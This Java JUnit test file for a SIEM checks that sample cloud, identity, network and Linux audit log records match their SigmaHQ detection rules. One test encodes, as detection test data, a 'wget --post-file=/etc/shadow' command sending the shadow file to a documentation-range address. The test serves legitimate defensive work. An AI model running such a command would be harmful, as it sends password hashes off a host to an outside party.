package io.nanosiem.conformance.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.nanosiem.event.Event;
import io.nanosiem.event.LogSource;
import io.nanosiem.normalize.Normalizer;
import io.nanosiem.parse.LogParser;
import io.nanosiem.sigma.SigmaRules;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Records of Linux audit and of services reach the rules of SigmaHQ that are written for them. */
class ServiceRecordsTest {
  private static final String AT = " msg=audit(1767323045.123:4711): ";

  private static Event read(String record) {
    Event.Builder event = LogParser.auto().parse(record).toBuilder();
    Normalizer.standard().normalize(event);
    return event.build();
  }

  private static List<String> lines(String name) throws IOException {
    try (BufferedReader reader =
        new BufferedReader(
            new InputStreamReader(
                new GZIPInputStream(Files.newInputStream(SigmaData.path(name))),
                StandardCharsets.UTF_8))) {
      return reader.lines().toList();
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml|{'eventVersion':'1','eventTime':"
            + "'2026-01-02T03:04:05Z','awsRegion':'r','userIdentity':{'type':'Root'},"
            + "'eventSource':'cloudtrail.amazonaws.com','eventName':'StopLogging'}",
        "cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml|{'aws':{'eventVersion':'1',"
            + "'eventTime':'2026-01-02T03:04:05Z','awsRegion':'r','userIdentity':{'type':'Root'},"
            + "'eventSource':'cloudtrail.amazonaws.com','eventName':'StopLogging'}}",
        "application/kubernetes/audit/kubernetes_audit_exec_into_container.yml|{'kind':'Event',"
            + "'apiVersion':'audit.k8s.io/v1','auditID':'1','verb':'create','objectRef':{"
            + "'resource':'pods','subresource':'exec'}}",
        "application/kubernetes/audit/kubernetes_audit_rbac_permisions_listing.yml|{'kind':'Event',"
            + "'apiVersion':'audit.k8s.io/v1','auditID':'1','verb':'create','objectRef':{"
            + "'apiGroup':'authorization.k8s.io','resource':'selfsubjectrulesreviews'}}",
        "application/kubernetes/audit/kubernetes_audit_hostpath_mount.yml|{'kind':'Event',"
            + "'apiVersion':'audit.k8s.io/v1','auditID':'1','verb':'create','objectRef':{"
            + "'resource':'pods'},'requestObject':{'spec':{'volumes':[{'hostPath':{'path':'/'}}]}}}",
        "cloud/gcp/audit/gcp_access_policy_deleted.yml|{'logName':'cloudaudit.googleapis.com%2F"
            + "activity','insertId':'1','protoPayload':{'serviceName':"
            + "'accesscontextmanager.googleapis.com','authorizationInfo':[{'permission':"
            + "'accesscontextmanager.accessPolicies.delete','granted':'true'}]}}",
        "cloud/gcp/audit/gcp_dlp_re_identifies_sensitive_information.yml|{'logName':'l',"
            + "'insertId':'1','protoPayload':{'methodName':'projects.content.reidentify'}}",
        "cloud/gcp/gworkspace/admin/gcp_gworkspace_role_modified_or_deleted.yml|{'kind':"
            + "'admin#reports#activity','id':{'applicationName':'admin'},'actor':{'email':'a'},"
            + "'events':[{'name':'DELETE_ROLE'}]}",
        "cloud/azure/activity_logs/azure_dns_zone_modified_or_deleted.yml|{'resourceId':'/S',"
            + "'correlationId':'1','category':'Administrative','operationName':"
            + "'MICROSOFT.NETWORK/DNSZONES/DELETE'}",
        "cloud/azure/signin_logs/azure_account_lockout.yml|{'resourceId':'/t','operationName':"
            + "'Sign-in activity','category':'SignInLogs','resultType':'50053'}",
        "cloud/azure/signin_logs/azure_account_lockout.yml|{'userPrincipalName':'a',"
            + "'conditionalAccessStatus':'x','status':{'errorCode':50053}}",
        "cloud/azure/audit_logs/azure_ad_account_created_deleted.yml|{'tenantId':'1',"
            + "'category':'AuditLogs','operationName':'Add user','properties':{'result':'success'}}",
        "cloud/azure/identity_protection/azure_identity_protection_password_spray.yml|{"
            + "'riskEventType':'passwordSpray','riskState':'atRisk'}",
        "cloud/m365/exchange/microsoft365_new_federated_domain_added_exchange.yml|{'Workload':"
            + "'Exchange','RecordType':1,'Operation':'Add-FederatedDomain','ResultStatus':'True'}",
        "cloud/m365/threat_management/microsoft365_impossible_travel_activity.yml|{'Workload':"
            + "'SecurityComplianceCenter','RecordType':40,'Operation':'AlertTriggered','Name':"
            + "'Impossible travel activity'}",
        "identity/okta/okta_admin_role_assigned_to_user_or_group.yml|{'eventType':"
            + "'group.privilege.grant','actor':{'id':'1'},'outcome':{'result':'SUCCESS'},'uuid':'1'}",
        "application/github/audit/github_delete_action_invoked.yml|{'action':'repo.destroy',"
            + "'actor':'a','org':'o'}",
        "application/bitbucket/audit/bitbucket_audit_user_login_failure_detected.yml|{'auditType':"
            + "{'category':'Authentication','action':'User login failed'},'author':{'name':'a'}}",
        "application/opencanary/opencanary_ftp_login_attempt.yml|{'logtype':2000,'node_id':'n',"
            + "'logdata':{}}",
        "network/zeek/zeek_dns_torproxy.yml|{'ts':1767323045.5,'uid':'C','id.orig_h':'192.0.2.7',"
            + "'id.resp_h':'192.0.2.8','qtype_name':'A','query':'x.onion.cab'}",
        "network/zeek/zeek_http_webdav_put_request.yml|{'ts':1767323045.5,'uid':'C',"
            + "'id.orig_h':'192.0.2.7','id.resp_h':'203.0.113.8','method':'PUT','uri':'/x',"
            + "'user_agent':'WebDAV'}"
      })
  void meetsTheRuleOfItsKind(String rule, String json) {
    SigmaRules rules = SigmaRules.load(SigmaData.path("rules/" + rule));
    Event event = read(json.replace('\'', '"'));

    assertThat(rules.match(event)).as("%s: %s", event.logSource(), event.derived()).isNotEmpty();
  }

  @Test
  void joinedAuditRecordsMeetTheRulesForAuditdAndForProcesses() {
    Event event =
        read(
            "type=SYSCALL"
                + AT
                + "arch=c000003e syscall=59 success=yes a0=1 a1=2 a2=3 a3=4 pid=7 ppid=6 euid=33"
                + " comm=\"wget\" exe=\"/usr/bin/wget\"\ntype=EXECVE"
                + AT
                + "argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2="
                + HexFormat.of()
                    .withUpperCase()
                    .formatHex("http://192.0.2.7/x".getBytes(StandardCharsets.UTF_8)));
    SigmaRules rules = SigmaRules.load(SigmaData.path("rules/linux"));

    assertThat(rules.match(event))
        .extracting(match -> match.rule().title())
        .contains("Data Exfiltration with Wget", "Webshell Remote Command Execution");
  }

  @Test
  void readsRealCloudTrail() throws IOException {
    Map<String, Integer> counts = new TreeMap<>();
    for (String line : lines("events/aws-cloudtrail.ndjson.gz")) {
      Event event = read(line);
      assertThat(event.logSource()).isEqualTo(LogSource.of("aws", "cloudtrail"));
      counts.merge("events", 1, Integer::sum);
      counts.merge("with time", event.hasOwnTime() ? 1 : 0, Integer::sum);
      counts.merge("with user", event.user() != null ? 1 : 0, Integer::sum);
      counts.merge("with address", event.sourceAddress() != null ? 1 : 0, Integer::sum);
      counts.merge("with outcome", event.authenticationOutcome() != null ? 1 : 0, Integer::sum);
    }
    System.out.println("CloudTrail: " + counts);
    assertThat(counts.get("with time")).isEqualTo(counts.get("events"));
  }

  @Test
  void readsRealEventsOfTheCollectorForAudit() throws IOException {
    List<String> ran = new ArrayList<>();
    for (String line : lines("events/linux-auditd-auoms.ndjson.gz")) {
      Event event = read(line);
      assertThat(event.logSource().product()).isEqualTo("linux");
      assertThat(event.logSource().service()).isEqualTo("auditd");
      assertThat(event.hasOwnTime()).isTrue();
      assertThat(event.host()).isEqualTo("UBUNTU5");
      if ("process_creation".equals(event.logSource().category())) {
        ran.add(String.valueOf(event.field("CommandLine")));
        assertThat(String.valueOf(event.field("Image"))).startsWith("/");
      }
    }
    System.out.println("auoms: " + ran.size() + " programs run: " + ran);
    assertThat(ran).hasSizeGreaterThan(20);
  }
}
